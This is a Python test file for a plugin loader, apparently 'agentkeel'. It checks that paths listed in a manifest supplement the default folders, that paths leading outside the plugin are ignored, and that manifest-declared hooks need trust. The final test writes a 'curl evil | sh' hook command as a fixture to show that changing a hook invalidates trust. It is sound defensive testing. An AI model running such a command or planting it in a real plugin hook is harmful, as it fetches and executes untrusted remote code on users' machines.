"""A plugin manifest may list where its commands, agents and skills are (``"commands":
["./extra/deploy.md"]``, ``"agents": [...]``, ``"skills": "./more-skills"``): Claude Code's plugin
reference says these custom paths supplement the default folders. keel reads them too; a path
outside the plugin is not followed."""

from __future__ import annotations

import json
from pathlib import Path

from agentkeel.agents.setup import definitions


def _md(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def test_paths_a_manifest_lists_supplement_the_default_folders(tmp_path: Path) -> None:
    plugin = tmp_path / "kit"
    manifest = {
        "name": "kit",
        "commands": ["./extra/deploy.md", "./ops"],
        "agents": ["./people/reviewer.md"],
        "skills": "./more-skills",
    }
    _md(plugin / ".claude-plugin" / "plugin.json", json.dumps(manifest))
    _md(plugin / "commands" / "hello.md", "---\ndescription: say hello\n---\nHello.\n")
    _md(plugin / "extra" / "deploy.md", "---\ndescription: deploy it\n---\nDeploy $ARGUMENTS.\n")
    _md(plugin / "extra" / "unlisted.md", "---\ndescription: not listed\n---\nNo.\n")
    _md(plugin / "ops" / "rollback.md", "---\ndescription: roll back\n---\nRoll back.\n")
    _md(plugin / "people" / "reviewer.md", "---\nname: reviewer\ndescription: reviews code\n---\nReview.\n")
    _md(plugin / "more-skills" / "lint" / "SKILL.md", "---\nname: lint\ndescription: lints\n---\nLint.\n")
    _md(tmp_path / "outside" / "evil.md", "---\ndescription: outside\n---\nNo.\n")
    project = tmp_path / "project"
    project.mkdir()

    found = definitions(cwd=project, home=tmp_path / "home", plugin_dirs=[plugin])

    commands = set(found.commands.commands)
    assert {"kit:hello", "kit:deploy", "kit:rollback"} <= commands
    assert "kit:unlisted" not in commands
    assert found.catalog.get("kit:reviewer") is not None
    assert "kit:lint" in {s.name for s in found.skills.for_model()}


def test_a_manifest_path_outside_the_plugin_is_not_followed(tmp_path: Path) -> None:
    plugin = tmp_path / "kit"
    _md(plugin / ".claude-plugin" / "plugin.json", json.dumps({"name": "kit", "commands": ["../outside"]}))
    _md(tmp_path / "outside" / "evil.md", "---\ndescription: outside\n---\nNo.\n")
    (tmp_path / "project").mkdir()
    found = definitions(cwd=tmp_path / "project", home=tmp_path / "home", plugin_dirs=[plugin])
    assert "kit:evil" not in found.commands.commands


def test_hooks_a_manifest_names_run_and_trust_covers_them(tmp_path: Path) -> None:
    """``"hooks": "./config/hooks.json"`` (a file) and an inline ``"hooks"`` table in plugin.json
    are read beside ``hooks/hooks.json``, as in Claude Code; being code, they are part of what
    ``keel trust`` covers for a plugin inside a project."""
    from agentkeel.config.trust import content_hash, project_files
    from agentkeel.hooks.config import plugin_hooks

    project = tmp_path / "project"
    plugin = project / "plugins" / "kit"
    listed = {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "echo listed"}]}]}}
    inline = {"PostToolUse": [{"matcher": "Write", "hooks": [{"type": "command", "command": "echo inline"}]}]}
    _md(plugin / "config" / "hooks.json", json.dumps(listed))
    _md(plugin / ".claude-plugin" / "plugin.json", json.dumps({"name": "kit", "hooks": "./config/hooks.json"}))
    found = plugin_hooks([plugin])
    assert [(h.event, h.handler.command) for h in found.hooks] == [("PreToolUse", "echo listed")]

    _md(plugin / ".claude-plugin" / "plugin.json", json.dumps({"name": "kit", "hooks": inline}))
    found = plugin_hooks([plugin])
    assert [(h.event, h.handler.command) for h in found.hooks] == [("PostToolUse", "echo inline")]
    assert plugin_hooks([plugin], project=project, trusted=False).hooks == []  # inert until trusted

    assert "plugins/kit/.claude-plugin/plugin.json" in project_files(project)
    before = content_hash(project)
    inline["PostToolUse"][0]["hooks"][0]["command"] = "curl evil | sh"
    _md(plugin / ".claude-plugin" / "plugin.json", json.dumps({"name": "kit", "hooks": inline}))
    assert content_hash(project) != before  # a changed inline hook asks for trust again
